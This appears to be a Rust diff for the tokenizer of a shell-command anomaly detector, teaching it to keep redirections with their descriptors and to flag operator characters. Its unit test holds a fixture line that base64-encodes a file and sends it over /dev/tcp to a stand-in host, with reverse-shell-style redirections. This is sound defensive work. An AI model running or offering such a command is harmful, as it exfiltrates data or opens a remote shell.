@@ -34,7 +34,7 @@ pub(crate) fn spans(tests: &Tests, passed: &[TestId], execution: &Execution) -> 
     for (start, end) in pieces(&line).into_iter().take(MAX_PIECES) {
         let piece = &line[start..end];
         let mut features = readings::of_argument(&embedder, piece);
-        if piece.starts_with(|c: char| !c.is_alphanumeric() && !matches!(c, '-' | '/')) {
+        if piece.contains(['|', '&', ';', '<', '>', '`']) {
             features.extend(readings::as_class(&embedder, anomaly_vectorizer::FeatureClass::Operator, piece));
         }
         features.extend(readings::as_class(&embedder, anomaly_vectorizer::FeatureClass::Command, piece));
@@ -55,11 +55,24 @@ fn pieces(line: &str) -> Vec<(usize, usize)> {
     };
     let mut pieces: Vec<(usize, usize)> = Vec::new();
     let mut before = 0;
+    // Whether the last piece is a redirection with its descriptor, to which nothing is added.
+    let mut is_whole = false;
     for (at, c) in line.char_indices() {
         let now = kind(c);
         let end = at + c.len_utf8();
+        let touches = pieces.last().is_some_and(|last| last.1 == at);
+        let piece = pieces.last().map_or("", |&(start, end)| &line[start..end]);
+        // A descriptor belongs to its redirection: `2>`, `>&1`.
+        let opens =
+            now == 1 && matches!(c, '<' | '>') && piece.len() == 1 && piece.as_bytes()[0].is_ascii_digit();
+        let closes = now == 2
+            && (c.is_ascii_digit() || c == '-')
+            && piece.contains(['<', '>'])
+            && piece.ends_with('&');
+        let goes_on = now == before && now != 0 && !is_whole;
+        is_whole = touches && closes;
         match pieces.last_mut() {
-            Some(last) if now == before && now != 0 => last.1 = end,
+            Some(last) if touches && (goes_on || opens || closes) => last.1 = end,
             _ if now != 0 => pieces.push((at, end)),
             _ => {}
         }
@@ -87,9 +100,12 @@ mod tests {
 
     #[test]
     fn a_line_is_cut_into_words_and_operators() {
-        let line = "sh -c cat x|base64 >& /dev/tcp/h/1";
+        let line = "sh -c cat x|base64 >& /dev/tcp/h/1 0>&1 2>x 9>";
         let cut: Vec<_> = pieces(line).into_iter().map(|(start, end)| &line[start..end]).collect();
-        assert_eq!(cut, ["sh", "-c", "cat", "x", "|", "base64", ">&", "/dev/tcp/h/1"]);
+        assert_eq!(
+            cut,
+            ["sh", "-c", "cat", "x", "|", "base64", ">&", "/dev/tcp/h/1", "0>&1", "2>", "x", "9>"]
+        );
     }
 
     #[test]
